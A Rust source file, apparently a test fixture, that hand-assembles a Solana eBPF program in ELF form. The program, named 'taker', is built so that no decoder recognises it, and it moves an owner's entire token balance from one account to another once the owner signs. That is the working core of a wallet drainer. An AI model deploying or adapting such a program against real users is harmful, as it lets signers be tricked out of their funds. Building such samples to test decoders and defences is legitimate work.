//! A Solana program that no decoder knows, put together here instruction by instruction, for no published one is at
//! hand: called with a token account, another one, their owner and the token program, it has the token program move
//! everything from the first account to the second with the owner's signature.
//!
//! Belongs here: its instructions (eBPF as the runtime takes it) and the file around them (ELF).

/// An eBPF instruction: operation, registers, offset, number.
fn instruction(operation: u8, to: u8, from: u8, offset: i16, number: i32) -> [u8; 8] {
    let [low, high] = offset.to_le_bytes();
    let [a, b, c, d] = number.to_le_bytes();
    [operation, to | (from << 4), low, high, a, b, c, d]
}

/// The input, and the frame on the stack.
const INPUT: u8 = 6;
const FRAME: u8 = 10;

/// Where the runtime puts the accounts in the input, and how long their data is. Before an account's data stand
/// eight bytes of flags, key, owner, lamports and the data's length; behind it there is room to grow.
const ACCOUNTS: [(i16, i16); 3] = [(8, 165), (10_512, 165), (21_016, 0)];
const TOKEN_PROGRAM: i16 = 31_352;
const ROOM: i16 = 10_240;

/// Places on the stack.
const METAS: i16 = -0x100;
const DATA: i16 = -0x20;
const CALL: i16 = -0x140;
const INFOS: i16 = -0x240;

/// The instructions so far.
struct Code(Vec<[u8; 8]>);

impl Code {
    /// Keeps an address, `offset` from the one in a register.
    fn keep_address(&mut self, at: i16, register: u8, offset: i16) {
        self.0.push(instruction(0xbf, 2, register, 0, 0));
        self.0.push(instruction(0x07, 2, 0, 0, offset.into()));
        self.0.push(instruction(0x7b, FRAME, 2, at, 0));
    }

    /// Keeps a number of the input.
    fn keep_number(&mut self, at: i16, offset: i16) {
        self.0.push(instruction(0x79, 2, INPUT, offset, 0));
        self.0.push(instruction(0x7b, FRAME, 2, at, 0));
    }

    fn keep(&mut self, at: i16, number: i32) {
        self.0.push(instruction(0xb7, 2, 0, 0, number));
        self.0.push(instruction(0x7b, FRAME, 2, at, 0));
    }

    fn keep_byte(&mut self, at: i16, byte: u8) {
        self.0.push(instruction(0x72, FRAME, 0, at, byte.into()));
    }
}

/// The program, as it lies in its account.
pub fn taker() -> Vec<u8> {
    let mut code = Code(vec![instruction(0xbf, INPUT, 1, 0, 0)]);
    // Transfer (3) of the amount that stands 64 bytes into the first account's data; source, destination, owner.
    for (at, (account, _), [writable, signer]) in
        [(METAS, ACCOUNTS[0], [1, 0]), (METAS + 16, ACCOUNTS[1], [1, 0]), (METAS + 32, ACCOUNTS[2], [0, 1])]
    {
        code.keep_address(at, INPUT, account + 8);
        code.keep_byte(at + 8, writable);
        code.keep_byte(at + 9, signer);
    }
    code.keep_byte(DATA, 3);
    code.keep_number(DATA + 1, ACCOUNTS[0].0 + 88 + 64);
    code.keep_address(CALL, INPUT, TOKEN_PROGRAM + 8);
    code.keep_address(CALL + 8, FRAME, METAS);
    code.keep(CALL + 16, 3);
    code.keep_address(CALL + 24, FRAME, DATA);
    code.keep(CALL + 32, 9);
    for (at, (account, length)) in [INFOS, INFOS + 56, INFOS + 112].into_iter().zip(ACCOUNTS) {
        code.keep_address(at, INPUT, account + 8);
        code.keep_address(at + 8, INPUT, account + 72);
        code.keep_number(at + 16, account + 80);
        code.keep_address(at + 24, INPUT, account + 88);
        code.keep_address(at + 32, INPUT, account + 40);
        let aligned = (length + 7) / 8 * 8;
        code.keep_number(at + 40, account + 88 + aligned + ROOM);
        code.keep_byte(at + 48, u8::from(length == 0));
        code.keep_byte(at + 49, 1);
        code.keep_byte(at + 50, 0);
    }
    for (register, place) in [(1, CALL), (2, INFOS)] {
        code.0.push(instruction(0xbf, register, FRAME, 0, 0));
        code.0.push(instruction(0x07, register, 0, 0, place.into()));
    }
    for (register, number) in [(3, 3), (4, 0), (5, 0)] {
        code.0.push(instruction(0xb7, register, 0, 0, number));
    }
    let call = code.0.len();
    code.0.push(instruction(0x85, 0, 1, 0, -1));
    code.0.push(instruction(0x95, 0, 0, 0, 0));
    file(&code.0.concat(), call * 8)
}

fn numbers(numbers: &[u64]) -> Vec<u8> {
    numbers.iter().flat_map(|number| number.to_le_bytes()).collect()
}

/// Several parts as bytes, padded to eight.
fn padded(mut bytes: Vec<u8>) -> Vec<u8> {
    bytes.resize(bytes.len().div_ceil(8) * 8, 0);
    bytes
}

/// The ELF file of these instructions, of which the one `call` bytes in asks the runtime for a call.
fn file(code: &[u8], call: usize) -> Vec<u8> {
    const TEXT: u64 = 64 + 2 * 56;
    let size = |bytes: &[u8]| bytes.len() as u64;
    let strings = b"\0sol_invoke_signed_c\0".to_vec();
    let names = b"\0.text\0.dynsym\0.dynstr\0.rel.dyn\0.dynamic\0.shstrtab\0".to_vec();
    let symbols = [vec![0; 24], numbers(&[1 | 0x10 << 32, 0, 0])].concat();
    let relocations = numbers(&[TEXT + call as u64, 1 << 32 | 10]);
    let at_symbols = TEXT + size(code);
    let at_strings = at_symbols + size(&symbols);
    let at_relocations = at_strings + size(&padded(strings.clone()));
    let at_dynamic = at_relocations + size(&relocations);
    let table = [
        (17, at_relocations),
        (18, size(&relocations)),
        (19, 16),
        (6, at_symbols),
        (11, 24),
        (5, at_strings),
        (10, size(&strings)),
        (0, 0),
    ];
    let dynamic = numbers(&table.map(|(tag, value)| [tag, value]).concat());
    let at_names = at_dynamic + size(&dynamic);
    let at_sections = at_names + size(&padded(names.clone()));

    let mut file = b"\x7fELF\x02\x01\x01".to_vec();
    file.resize(16, 0);
    // A shared object (3) for eBPF (247), version 1; entry, segments, sections; sizes and counts of the tables.
    file.extend(numbers(&[3 | 247 << 16 | 1 << 32, TEXT, 64, at_sections]));
    file.extend(numbers(&[64 << 32 | 56 << 48, 2 | 64 << 16 | 7 << 32 | 6 << 48]));
    for (kind, at, length, alignment) in
        [(1 | 5 << 32, TEXT, size(code), 4096), (2 | 4 << 32, at_dynamic, size(&dynamic), 8)]
    {
        file.extend(numbers(&[kind, at, at, at, length, length, alignment]));
    }
    for part in [
        code.to_vec(),
        symbols.clone(),
        padded(strings.clone()),
        relocations.clone(),
        dynamic.clone(),
        padded(names.clone()),
    ] {
        file.extend(part);
    }
    // Name and kind, flags, address, place, length, link, alignment, size of an entry.
    let sections: [[u64; 8]; 7] = [
        [0; 8],
        [1 | 1 << 32, 6, TEXT, TEXT, size(code), 0, 8, 0],
        [7 | 11 << 32, 2, at_symbols, at_symbols, size(&symbols), 3 | 1 << 32, 8, 24],
        [15 | 3 << 32, 2, at_strings, at_strings, size(&strings), 0, 1, 0],
        [23 | 9 << 32, 2, at_relocations, at_relocations, size(&relocations), 2, 8, 16],
        [32 | 6 << 32, 3, at_dynamic, at_dynamic, size(&dynamic), 3, 8, 16],
        [41 | 3 << 32, 0, 0, at_names, size(&names), 0, 1, 0],
    ];
    sections.into_iter().for_each(|section| file.extend(numbers(&section)));
    file
}
